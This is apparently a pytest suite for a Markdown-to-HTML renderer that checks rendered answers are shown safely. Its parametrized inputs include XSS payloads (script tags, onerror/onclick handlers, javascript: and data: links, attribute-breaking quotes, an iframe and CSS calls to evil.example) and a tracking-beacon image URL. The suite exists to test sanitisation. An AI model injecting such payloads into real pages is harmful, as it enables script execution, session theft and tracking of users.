"""Answers as HTML: what Markdown means is shown, and nothing that an answer holds becomes markup of its own."""

import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from minions.markdown import LONGEST, to_html

TAGS = {
    "p", "br", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "em", "strong", "s", "code", "pre", "hr", "a",
    "table", "thead", "tbody", "tr", "th", "td", "div", "span", "button",
}  # fmt: skip
ATTRIBUTES = {"href", "title", "rel", "target", "class", "type", "tabindex", "start", "style", "data-copies",
              "data-copied"}  # fmt: skip


class Tags(HTMLParser):
    """What a browser would make of it: tags with their attributes, and the text."""

    def __init__(self, html: str):
        super().__init__()
        self.tags, self.text = [], ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text += data

    def of(self, tag: str) -> list[dict]:
        return [attrs for name, attrs in self.tags if name == tag]


def is_harmless(html: str) -> bool:
    for tag, attrs in Tags(html).tags:
        if tag not in TAGS or set(attrs) - ATTRIBUTES:
            return False
        if attrs.get("style") not in (None, "text-align:left", "text-align:right", "text-align:center"):
            return False
        href = attrs.get("href")
        if href is not None and not href.lower().startswith(("https://", "http://", "mailto:", "#passage-")):
            return False
    return True


def test_what_markdown_means_is_shown():
    html = to_html(
        "# Tides\n\nHigh *twice* a **day**, ~~never~~ thrice:\n\n1. morning\n2. evening\n\n- a\n  - b\n\n"
        "> said\n\n| when | m |\n|---|--:|\n| 6:00 | 3.1 |\n\n```python\nprint(1 < 2)\n```\n\n"
        "See [the chart](https://example.org/tides), `1 < 2`."
    )
    read = Tags(html)
    names = [tag for tag, _attrs in read.tags]
    assert {"h3", "em", "strong", "s", "ol", "ul", "blockquote", "table", "pre", "code"} <= set(names)
    assert names.count("li") == 4 and read.of("td") == [{}, {"style": "text-align:right"}]
    (link,) = read.of("a")
    assert link["href"] == "https://example.org/tides" and link["target"] == "_blank"
    assert {"noopener", "nofollow"} <= set(link["rel"].split())
    assert "print(1 &lt; 2)" in html and "python" in html
    # The lines of an answer stay lines.
    assert to_html("one\ntwo").count("<br") == 1


def test_a_block_of_code_can_be_copied():
    (button,) = Tags(to_html("```\nx\n```")).of("button")
    assert button["type"] == "button" and "data-copies" in button


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<a href='javascript:alert(1)' onclick=alert(1)>x</a>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "<javascript:alert(1)>",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](vbscript:x)",
        "[x](/minions/new/)",
        "[x](//evil.example/)",
        "[x](../../settings/)",
        "[x](#main)",
        '[x](https://e.org "onmouseover=alert(1) \\" x=\\"y")',
        '[x](https://e.org/"onmouseover="alert(1))',
        'https://e.org/"onmouseover="alert(1)',
        '```"><script>alert(1)</script>\n<script>alert(2)</script>\n```',
        '```x"onmouseover="alert(1)\ny\n```',
        "<style>*{background:url(https://evil.example/)}</style>",
        "| <b>x</b> |\n|---|\n| <i onclick=x>y</i> |",
        "[1]: javascript:alert(1)\n\n[1]",
        "<!-- x --><iframe src=https://evil.example></iframe>",
        "<https://evil.example/<script>>",
    ],
)
def test_nothing_in_an_answer_becomes_markup_of_its_own(text):
    html = to_html(text, numbers=(1,), anchor="a")
    assert is_harmless(html), html
    assert "javascript:" not in [attrs.get("href", "")[:11].lower() for _tag, attrs in Tags(html).tags]


@pytest.mark.parametrize(
    "text",
    ["![a chart](https://evil.example/beacon.gif?who=alice)", "![](https://evil.example/x.png)",
     "[![a chart](https://evil.example/x)](https://example.org)", "![a chart][1]\n\n[1]: https://evil.example/x"],
)  # fmt: skip
def test_no_picture_is_loaded(text):
    read = Tags(to_html(text))
    # A link that a person may follow is no picture.
    assert not read.of("img") and "evil.example" not in str([each for each in read.tags if each[0] != "a"])


def test_passages_are_linked_and_nothing_else_can_take_their_names():
    html = to_html(
        "Opens at six [1], closes [2].\n\n[1]: https://evil.example\n\n[1](https://evil.example) and `[1]` and [9].",
        numbers=(1, 2), anchor="m",
    )  # fmt: skip
    cites = [attrs["href"] for attrs in Tags(html).of("a") if attrs.get("class") == "cite"]
    assert cites == ["#passage-m-1", "#passage-m-2", "#passage-m-1", "#passage-m-1"]
    assert "<code>[1]</code>" in html and "[9]" in html


def test_an_address_in_plain_words_is_a_link_without_the_full_stop():
    read = Tags(to_html("See https://example.org/a?b=1&c=2. Or (https://example.org)."))
    assert [attrs["href"] for attrs in read.of("a")] == [
        "https://example.org/a?b=1&c=2",
        "https://example.org",
    ]
    assert read.text.strip() == "See https://example.org/a?b=1&c=2. Or (https://example.org)."
    assert len(Tags(to_html("[https://a.example](https://b.example)")).of("a")) == 1
    assert not Tags(to_html("`https://a.example`")).of("a")


@given(st.text(alphabet="ab1[]()<>!#*_`~|-:\n\"'& /\\=https.x", max_size=200))
@settings(max_examples=150, deadline=None)
def test_whatever_is_written_stays_harmless(text):
    assert is_harmless(to_html(text, numbers=(1,), anchor="a"))


@pytest.mark.parametrize(
    "piece", ["[", "*a ", "`", "<", "> ", "![", "a_b_", "https://", "|", "- " * 3, "[1]("]
)
def test_a_hostile_answer_takes_no_time(piece):
    text = (piece * LONGEST)[:LONGEST]
    begun = time.perf_counter()
    to_html(text, numbers=(1,), anchor="a")
    assert time.perf_counter() - begun < 5.0


def test_what_is_far_too_long_is_shown_as_it_was_written():
    html = to_html("<b>" + "x" * LONGEST)
    assert html.startswith('<p class="pre">&lt;b&gt;') and is_harmless(html)
